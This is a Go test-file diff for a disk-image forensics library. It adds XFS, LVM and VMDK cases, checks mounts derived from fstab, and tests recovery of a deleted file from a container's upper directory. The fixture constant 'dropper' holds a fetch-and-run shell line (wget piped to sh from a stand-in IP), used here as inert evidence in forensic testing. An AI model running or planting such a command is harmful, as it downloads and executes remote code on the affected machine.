@@ -2,7 +2,9 @@ package diskimage
 
 import (
 	"bufio"
+	"context"
 	"crypto/sha256"
+	"errors"
 	"encoding/hex"
 	"fmt"
 	"io"
@@ -147,21 +149,28 @@ func TestFormsAsTheKernelMountsThem(t *testing.T) {
 	dir := testfix.DiskImages(t)
 	for _, c := range []struct {
 		image, listing, root, kind string
+		alone                      bool // forge-disk.sh listed the root filesystem without what its fstab mounts
 	}{
-		{"gpt-ext4.raw", "gpt-ext4", "p2", "disk:raw"},
-		{"split/gpt-ext4.raw.001", "gpt-ext4", "p2", "disk:split-raw"},
-		{"gpt-ext4.qcow2", "gpt-ext4", "p2", "disk:qcow2"},
-		{"gpt-ext4.zlib.qcow2", "gpt-ext4", "p2", "disk:qcow2"},
-		{"gpt-ext4.zstd.qcow2", "gpt-ext4", "p2", "disk:qcow2"},
-		{"gpt-ext4.v2.qcow2", "gpt-ext4", "p2", "disk:qcow2"},
-		{"gpt-ext4.sparse.vmdk", "gpt-ext4", "p2", "disk:vmdk-sparse"},
+		{"gpt-ext4.raw", "gpt-ext4", "p2", "disk:raw", false},
+		{"split/gpt-ext4.raw.001", "gpt-ext4", "p2", "disk:split-raw", false},
+		{"gpt-ext4.qcow2", "gpt-ext4", "p2", "disk:qcow2", false},
+		{"gpt-ext4.zlib.qcow2", "gpt-ext4", "p2", "disk:qcow2", false},
+		{"gpt-ext4.zstd.qcow2", "gpt-ext4", "p2", "disk:qcow2", false},
+		{"gpt-ext4.v2.qcow2", "gpt-ext4", "p2", "disk:qcow2", false},
+		{"gpt-ext4.sparse.vmdk", "gpt-ext4", "p2", "disk:vmdk-sparse", false},
+		{"gpt-xfs.raw", "gpt-xfs", "p1", "disk:raw", false},
+		{"gpt-xfs.vmdk", "gpt-xfs", "p1", "disk:vmdk-stream", false},
+		{"gpt-xfs.gdend.vmdk", "gpt-xfs", "p1", "disk:vmdk-stream", false},
+		{"mbr-lvm-xfs.raw", "mbr-lvm-xfs", "vg0/root", "disk:raw", true},
+		{"vmdk-2gb/mbr-lvm-xfs.vmdk", "mbr-lvm-xfs", "vg0/root", "disk:vmdk-descriptor", true},
+		{"gpt-var.raw", "gpt-var", "p1", "disk:raw", false},
 	} {
 		t.Run(c.image, func(t *testing.T) {
 			p := filepath.Join(dir, c.image)
 			if !Probe(p) {
 				t.Fatalf("Probe(%s) is false", c.image)
 			}
-			im, err := Open(p, nil)
+			im, err := Open(p, &Options{NoAssemble: c.alone})
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -214,5 +223,96 @@ func TestNotesSayWhatWasRead(t *testing.T) {
 	}
 	if _, err := Open(filepath.Join(testfix.DiskImages(t), "gpt-ext4.raw"), &Options{Volume: "p9"}); err == nil || !strings.Contains(err.Error(), `"p9": no such volume on this disk`) {
 		t.Errorf("--volume p9: %v", err)
+	}
+}
+
+// dropper is what forge-disk.sh wrote, synced and deleted in the attacked
+// container's upper dir.
+const dropper = "#!/bin/sh\n# DELETED-MARK-A-71c0 dropper\nwget -qO- http://198.51.100.23/s | sh\n"
+
+// TestDeletedDropper: on every form, the dropper deleted from the upper
+// dir is found through the node's namespace — also when the upper dir is
+// on a /var mounted from another filesystem — by name and with its
+// content; nothing of it is visible through the Source.
+func TestDeletedDropper(t *testing.T) {
+	dir := testfix.DiskImages(t)
+	upper := testfix.NodeUpperDir
+	for _, c := range []string{"gpt-ext4.raw", "gpt-ext4.qcow2", "split/gpt-ext4.raw.001", "gpt-xfs.raw", "gpt-xfs.vmdk", "mbr-lvm-xfs.raw", "gpt-var.raw"} {
+		t.Run(c, func(t *testing.T) {
+			im, err := Open(filepath.Join(dir, c), nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			defer im.Close()
+			for _, d := range []string{upper, "var/lib/containerd", "."} {
+				ds, err := im.Deleted(context.Background(), d)
+				if err != nil {
+					t.Fatal(err)
+				}
+				var found []vfs.Deleted
+				for _, x := range ds {
+					if x.Path == upper+"/tmp/.dropper.sh" {
+						found = append(found, x)
+					}
+				}
+				if len(found) != 1 {
+					t.Fatalf("%s: %d records of the dropper in %+v", d, len(found), ds)
+				}
+				x := found[0]
+				if x.Size != int64(len(dropper)) || x.Recoverable != x.Size || !x.Complete || x.Mode != 0o644 || x.DeletedAt.IsZero() {
+					t.Errorf("%s: %+v", d, x)
+				}
+				ra, err := x.Open()
+				if err != nil {
+					t.Fatal(err)
+				}
+				b := make([]byte, x.Recoverable)
+				if _, err := ra.ReadAt(b, 0); err != nil && err != io.EOF {
+					t.Fatal(err)
+				}
+				if string(b) != dropper {
+					t.Errorf("%s: recovered %q", d, b)
+				}
+			}
+			if _, err := im.Lstat(upper + "/tmp/.dropper.sh"); !errors.Is(err, fs.ErrNotExist) {
+				t.Errorf("the deleted dropper is visible: %v", err)
+			}
+			ents, err := im.ReadDir(upper + "/tmp")
+			if err != nil {
+				t.Fatal(err)
+			}
+			for _, e := range ents {
+				if strings.Contains(e.Name, "dropper") {
+					t.Errorf("readdir shows %s", e.Name)
+				}
+			}
+		})
+	}
+}
+
+// TestBootMountedFromLVMNode: the RHEL-like node's root is an LV whose
+// fstab names itself by /dev/mapper and mounts /boot by UUID.
+func TestBootMountedFromLVMNode(t *testing.T) {
+	im, err := Open(filepath.Join(testfix.DiskImages(t), "mbr-lvm-xfs.raw"), nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer im.Close()
+	var got []string
+	for _, m := range im.Mounts {
+		got = append(got, fmt.Sprintf("%s %s %s %v %s", m.MountPoint, m.Source, m.Volume, m.Mounted, m.Origin))
+	}
+	want := "/ /dev/mapper/vg0-root vg0/root true picked; /etc/fstab line 1\n" +
+		"none /dev/mapper/vg0-swap vg0/swap false /etc/fstab line 3\n" +
+		"/boot UUID=d15c0004-0000-4000-8000-000000000004 p1 true /etc/fstab line 2"
+	if strings.Join(got, "\n") != want {
+		t.Errorf("mounts:\n%s\nwant:\n%s", strings.Join(got, "\n"), want)
+	}
+	st, err := im.Lstat("boot/lost+found")
+	if err != nil || !st.Mode.IsDir() || st.Ino != 11 {
+		t.Errorf("boot/lost+found: %+v %v", st, err)
+	}
+	if f := im.Filesystem("p1"); f.MountPoint != "/boot" || im.Filesystem("vg0/root").MountPoint != "/" {
+		t.Errorf("mount points %q", f.MountPoint)
 	}
 }
